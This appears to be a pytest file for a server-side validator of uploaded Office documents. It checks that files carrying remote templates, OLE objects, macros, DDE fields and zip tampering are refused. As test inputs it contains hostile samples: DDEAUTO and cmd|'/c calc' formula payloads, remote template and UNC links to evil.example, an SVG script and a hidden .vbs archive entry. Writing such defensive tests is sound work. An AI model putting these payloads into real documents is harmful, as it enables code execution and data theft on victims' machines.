"""Office files: told by their relations, and refused where anything is embedded, fetched or run."""

import gzip
import io
import struct
import zipfile

import pytest
import xlsxwriter
from django.core.exceptions import ValidationError

from files import office, sandbox
from files.tests.office_files import OFFICE, field, relation, relations
from files.tests.office_files import office as made

EVIL = "https://evil.example/x.dotm"
OUTSIDE = 'TargetMode="External"'


def examine(data):
    return sandbox.run(office.examine_apart, data)[0][0]


def workbook():
    """Return what a library writes: formulas, an image-free chart, a link, a comment, a table."""
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream) as book:
        sheet = book.add_worksheet("清单")
        sheet.write_row(0, 0, ["名称", "数量"])
        sheet.write_row(1, 0, ["变压器", 2])
        sheet.write_formula(2, 1, '=SUM(B2:B2)&"|共"')
        sheet.write_url(3, 0, "https://www.example.cn/")
        sheet.write_comment(1, 1, "备注")
        sheet.add_table(0, 0, 1, 1)
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "=清单!$B$2:$B$2"})
        sheet.insert_chart("D2", chart)
    return stream.getvalue()


PAGES = field(" PAG", "E ") + field(' HYPERLINK "https://www.example.cn/" \\h ') + field("= 1 + ", "2")
HEADER = {"word/header1.xml": "<x/>", "word/media/image1.png": b"\x89PNG"}
LEADS = relation("header", "header1.xml") + relation("image", "/word/media/image1.png")
LINKS = relation("hyperlink", "https://www.example.cn/", OUTSIDE) + relation("hyperlink", "mailto:a@b.cn", OUTSIDE)


@pytest.mark.parametrize(
    ("data", "ending"),
    [
        (workbook(), "xlsx"),
        (made(body=PAGES), "docx"),
        (made(leads=LEADS + LINKS, **HEADER), "docx"),
        (made("ppt/presentation.xml"), "pptx"),
    ],
    ids=["of a library", "fields", "header, image, links", "pptx"],
)
def test_up_24_what_people_write_is_taken(data, ending):
    assert examine(data) == ending


NAMES = (
    "type after mode|utf-16|character references|image elsewhere|share|package|ole|chunk|left lying|other workbook"
    "|renamed macros|macros by type|split ddeauto|referenced ddeauto|picture|nested|hyperlink to a share"
    "|dde|web service|vml|published|style sheet|entities|twice"
)
UTF16 = relations(relation("attachedTemplate", EVIL, OUTSIDE)).replace('"1.0"', '"1.0" encoding="UTF-16"')
TYPE_LAST = f'<Relationship Id="r" TargetMode="External" Target="{EVIL}" Type="{OFFICE}/attachedTemplate"/>'
REFERENCE = relation("oleObject", EVIL, 'TargetMode="&#69;xternal"').replace("oleO", "ole&#79;")
PACKAGE = {"word/embeddings/a.xlsx": b"PK"}
VBA = "http://schemas.microsoft.com/office/2006/relationships"
NESTED = field("QUOTE 68 68 69").replace("QUOTE", "</w:instrText></w:r>" + field("QUOTE 68") + "<w:r><w:instrText>")


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (made(leads=TYPE_LAST), "remote"),
        (made(leads=UTF16.encode("utf-16")), "remote"),
        (made(leads=REFERENCE), "remote"),
        (made(leads=relation("image", "//evil.example/a.png", OUTSIDE)), "remote"),
        (made(leads=relation("hyperlink", "file://evil.example/a", OUTSIDE)), "remote"),
        (made(leads=relation("package", "embeddings/a.xlsx"), **PACKAGE), "embedded"),
        (made(leads=relation("oleObject", "embeddings/a.bin"), **{"word/embeddings/a.bin": b"\xd0\xcf"}), "embedded"),
        (made(leads=relation("aFChunk", "a.html"), **{"word/a.html": "<p/>"}), "embedded"),
        (made(**PACKAGE), "embedded"),
        (made("xl/workbook.xml", leads=relation("externalLink", "e.xml"), **{"xl/e.xml": "<x/>"}), "embedded"),
        (made(leads=relation("vbaProject", "harmless.bin", namer=VBA), **{"word/harmless.bin": b"x"}), "macros"),
        (made(types='<Override PartName="/a" ContentType="application/vnd.ms-office.vba&#80;roject"/>'), "macros"),
        (made(body=field(" DDEAU", 'TO c:\\\\windows "cmd"')), "fields"),
        (made(body=field("DDE&#65;UTO c")), "fields"),
        (made(body='<w:fldSimple w:instr=" INCLUDEPICTURE &quot;x&quot; "/>'), "fields"),
        (made(body=NESTED), "fields"),
        (made(body=field('HYPERLINK "\\\\\\\\evil.example\\\\a"')), "fields"),
        (made("xl/workbook.xml", body="<definedName>cmd|'/c calc'!A1</definedName>"), "fields"),
        (made("xl/workbook.xml", body="<f>_xlfn.WEBSERVICE(A1)</f>"), "fields"),
        (made(body='<v:imagedata xmlns:v="urn:v" src="https://evil.example/a"/>'), "remote"),
        (made("xl/workbook.xml", body='<webPublishItem destinationFile="\\\\e\\a.htm" autoRepublish="1"/>'), "remote"),
        (made(body='<w:saveThroughXslt w:solutionID="\\\\evil.example\\a.xslt"/>'), "remote"),
        (made(leads=b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "damaged"),
        (made(**{"WORD/document.xml": "<x/>"}), "damaged"),
    ],
    ids=NAMES.split("|"),
)
def test_up_24_nothing_embedded_fetched_or_run_is_taken(data, code):
    with pytest.raises(ValidationError) as caught:
        examine(data)

    assert caught.value.code == code
    assert any(remedy in caught.value.messages[0] for remedy in ("另存", "PDF"))


STRANGE, BRANCHES = 'xmlns:x="urn:x"', "http://schemas.openxmlformats.org/markup-compatibility/2006"
OLE, VIDEO = "urn:schemas-microsoft-com:office:office", "http://schemas.microsoft.com/office/word/2012"
BEGIN, END = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end"))
HARMLESS, DDE = (f"<w:instrText>{code} </w:instrText>" for code in ("PAGE", "DDEAUTO c"))
BRANCH = f'<m:A xmlns:m="{BRANCHES}"><m:Choice Requires="x">{HARMLESS}</m:Choice><m:Fallback>{DDE}</m:Fallback></m:A>'
FOREIGN = HARMLESS.replace("w:instrText", "x:instrText").replace("x:instrText", f"x:instrText {STRANGE}", 1)
DISGUISED = {
    "attribute beside": (made(body=f'<w:fldSimple {STRANGE} w:instr="DDEAUTO c" x:instr="PAGE"/>'), "fields"),
    "strange element": (made(body=BEGIN + FOREIGN + DDE + END), "fields"),
    "strange mark": (made(body=BEGIN + HARMLESS + f'<x:fldChar {STRANGE} fldCharType="end"/>' + DDE + END), "fields"),
    "other branch": (made(body=BEGIN + BRANCH + END), "fields"),
    "plain text": (made(body=BEGIN + "<w:t>DDEAUTO c</w:t>" + END), "fields"),
    "name from a field": (made(body=BEGIN + field("REF a") + "<w:instrText>TIME</w:instrText>" + END), "fields"),
    "without an end": (made(body=BEGIN + DDE), "fields"),
    "in a formula": (made("xl/workbook.xml", body=f"<f>1<x:f {STRANGE}>1</x:f>+WEBSERVICE(A1)</f>"), "damaged"),
    "quoted": (made("xl/workbook.xml", body="<f>'cmd'|'/c calc'!A1</f>"), "fields"),
    "share in a formula": (made("xl/workbook.xml", body="<f>'\\\\evil.example\\[a.xlsx]S'!A1</f>"), "fields"),
    "link said to be inside": (made(leads=relation("hyperlink", "file://evil.example/a")), "remote"),
    "image said to be inside": (made(leads=relation("image", "\\\\evil.example\\a.png")), "remote"),
    "object as image": (made(leads=relation("image", "a.png"), **{"word/a.png": b"\xd0\xcf\x11\xe0"}), "embedded"),
    "archive as font": (made(leads=relation("font", "a.odttf"), **{"word/a.odttf": b"PK\3\4"}), "embedded"),
    "object of an image": (made(body=f'<o:OLEObject xmlns:o="{OLE}" Type="Embed"/>'), "embedded"),
    "video": (made(body=f'<v:webVideoPr xmlns:v="{VIDEO}" embeddedHtml="&lt;iframe/&gt;"/>'), "embedded"),
    "program": (made("ppt/presentation.xml", body='<hlinkClick action="ppaction://program"/>'), "macros"),
}


@pytest.mark.parametrize(("data", "code"), DISGUISED.values(), ids=DISGUISED)
def test_up_24_what_office_skips_hides_nothing(data, code):
    with pytest.raises(ValidationError) as caught:
        examine(data)

    assert caught.value.code == code


SHAPE = f'<m:A xmlns:m="{BRANCHES}"><m:Choice Requires="wps">{PAGES}</m:Choice><m:Fallback>{PAGES}</m:Fallback></m:A>'
SHOWN = BEGIN + HARMLESS + '<w:fldChar w:fldCharType="separate"/><w:t>DDE 3</w:t>' + END + "<w:t>DDE</w:t>"
MATHS = '<m:f xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:num><m:t>1</m:t></m:num></m:f>'

BRANCHED = BEGIN + HARMLESS.replace("PAGE", "IF") + field("PAGE") + HARMLESS.replace("PAGE", "= 1") + END


@pytest.mark.parametrize("body", [SHAPE, SHOWN, MATHS, BRANCHED])
def test_up_24_text_of_all_kinds_is_taken(body):
    assert examine(made(body=body)) == "docx"


def test_up_24_a_zip_archive_without_a_document_is_none():
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")

    with pytest.raises(ValidationError, match="只能发送"):
        examine(stream.getvalue())


@pytest.mark.parametrize(
    "picture",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b"\xef\xbb\xbf<svg/>",
        "<svg/>".encode("utf-16"),
        b"  <svg/>",
        gzip.compress(b"<svg/>", mtime=0),
        b"<html>",
    ],
    ids=["script", "mark", "wide", "blanks", "packed", "page"],
)
def test_up_34_an_image_part_is_a_picture_and_no_svg(picture):
    for name in ("image1.svg", "image1.png"):
        with pytest.raises(ValidationError, match="SVG"):
            examine(made(leads=relation("image", f"media/{name}"), **{f"word/media/{name}": picture}))


def doctored(change):
    """Return a file as `made`, its bytes changed by change(data, ZipInfo of the document)."""
    data = made()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return change(bytearray(data), archive.getinfo("word/document.xml"), archive.start_dir)


def put(data, place, new):
    data[place : place + len(new)] = new
    return data


def hidden(data, entry, directory):
    """Put an entry that the directory does not list before it."""
    more = b"PK\3\4" + struct.pack("<5H3I2H", 20, 0, 0, 0, 33, 0, 4, 4, 5, 0) + b"a.vbsevil"
    changed = data[:directory] + more + data[directory:]
    return put(changed, len(changed) - 6, struct.pack("<I", directory + len(more)))


@pytest.mark.parametrize(
    "change",
    [
        lambda data, entry, directory: put(data, entry.header_offset + 8, b"\0\0"),  # stored, says the head
        lambda data, entry, directory: put(data, entry.header_offset + 30, b"word/documenu.xml"),
        lambda data, entry, directory: put(data, entry.header_offset + 22, b"\1\0\0\0"),  # one byte
        lambda data, entry, directory: put(data, entry.header_offset + 14, b"\1\2\3\4"),
        lambda data, entry, directory: put(data, entry.header_offset + 6, b"\1\0"),  # encrypted
        hidden,
        lambda data, entry, directory: data + b"PK\5\6" + bytes(18),
        lambda data, entry, directory: put(data, len(data) - 2, b"\4\0") + b"evil",
    ],
    ids=["method", "name", "size", "sum", "flags", "hidden entry", "second end", "comment"],
)
def test_up_35_what_an_archive_says_twice_is_the_same(change):
    with pytest.raises(ValidationError):
        examine(bytes(doctored(change)))


def test_up_35_archives_of_other_programs_are_taken():
    stream = io.BytesIO()

    class Pipe(io.RawIOBase):
        """Where no program can go back: sizes come behind each entry."""

        def writable(self):
            return True

        def write(self, part):
            return stream.write(part)

    with zipfile.ZipFile(io.BytesIO(made())) as source, zipfile.ZipFile(Pipe(), "w") as archive:
        for name in source.namelist():
            archive.writestr(name, source.read(name), zipfile.ZIP_DEFLATED)

    assert examine(stream.getvalue()) == "docx"
